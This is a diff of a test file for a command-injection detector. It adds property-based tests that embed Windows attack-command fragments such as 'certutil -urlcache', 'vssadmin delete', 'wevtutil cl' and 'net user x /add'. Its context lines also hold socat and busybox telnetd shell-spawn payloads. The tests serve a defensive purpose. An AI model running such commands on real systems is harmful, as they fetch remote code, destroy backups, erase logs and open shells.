@@ -5,7 +5,7 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { charMask } from '../../../src/verifiers/payload-shield/char-classes.js';
-import { GTFOBINS, mayMatchGtfobins } from '../../../src/verifiers/payload-shield/cmdi-command-line.js';
+import { GTFOBINS, mayMatchGtfobins, mayRunWindowsCommand, WINDOWS_COMMAND } from '../../../src/verifiers/payload-shield/cmdi-command-line.js';
 import { CMDI_RULES, createCmdiDetector } from '../../../src/verifiers/payload-shield/cmdi.js';
 import { ruleOf } from './helpers.js';
 
@@ -76,5 +76,46 @@ describe('mayMatchGtfobins', () => {
   it('lets the detector report a shell spawn the old gate skipped (no slash, pipe, quote, parenthesis, < or &)', () => {
     expect(ruleOf(createCmdiDetector(), 'note; then socat tcp:10.0.0.1:4444 exec:sh')).toBe(CMDI_RULES.shellSpawn);
     expect(ruleOf(createCmdiDetector(), 'note; then busybox telnetd -l sh')).toBe(CMDI_RULES.shellSpawn);
+  });
+});
+
+// Every alternative of WINDOWS_COMMAND, at the start or after a separator and white space, inside random text.
+const windowsCommand = fc.constantFrom(
+  'cmd /c whoami', 'cmd.exe /k x', 'for /f %i in (x) do y', 'net user', 'net1 localgroup', 'net.exe view', 'net user x /add',
+  'net use \\\\h', 'reg add hklm\\x', 'reg.exe query "hk', 'netsh firewall', 'powershell -enc', 'pwsh.exe /c',
+  'wmic process', 'wmic /node', 'certutil -urlcache', 'certutil.exe /f', 'bitsadmin /transfer', 'schtasks /create',
+  'vssadmin delete', 'wevtutil cl', 'rundll32 x,y', 'regsvr32 /s', 'mshta http:', 'taskkill /f', 'tasklist', 'tasklist /v',
+  'systeminfo', 'whoami', 'whoami /all', 'ipconfig /all', 'type c:\\x', 'dir c:\\', 'del c:\\', 'copy c:\\',
+  'move c:\\', 'sc query x', 'sc.exe stop x', 'start /b x',
+);
+const separated = fc
+  .tuple(
+    fc.array(noise, { maxLength: 3 }),
+    fc.constantFrom('', ';', '&', '|', '\n', '\r', '`', '('),
+    fc.array(fc.constantFrom(' ', '\t', '\u00a0', '\u2003', '\ufeff', '\n'), { maxLength: 5 }),
+    windowsCommand,
+    fc.array(noise, { maxLength: 3 }),
+  )
+  .map(([before, sep, spaces, command, after]) => before.join('') + sep + spaces.join('') + command + after.join(''));
+
+describe('mayRunWindowsCommand', () => {
+  it('holds for every generated string WINDOWS_COMMAND matches', () => {
+    let matched = 0;
+    fc.assert(
+      fc.property(separated, (s) => {
+        if (!WINDOWS_COMMAND.test(s)) return true;
+        matched++;
+        return mayRunWindowsCommand(s, charMask(s));
+      }),
+      { numRuns: 30_000 },
+    );
+    expect(matched).toBeGreaterThan(5_000);
+  });
+
+  it('skips prose with separators', () => {
+    for (const s of ["leave at door; ring bell. it's a gift - no receipt please!", 'please deliver after 6pm (dog is friendly) & call +44 20 7946 0958 if needed.']) {
+      expect(mayRunWindowsCommand(s, charMask(s)), s).toBe(false);
+    }
+    expect(mayRunWindowsCommand('x;\u00a0 \t\u2003whoami', charMask('x;\u00a0 \t\u2003whoami'))).toBe(true);
   });
 });
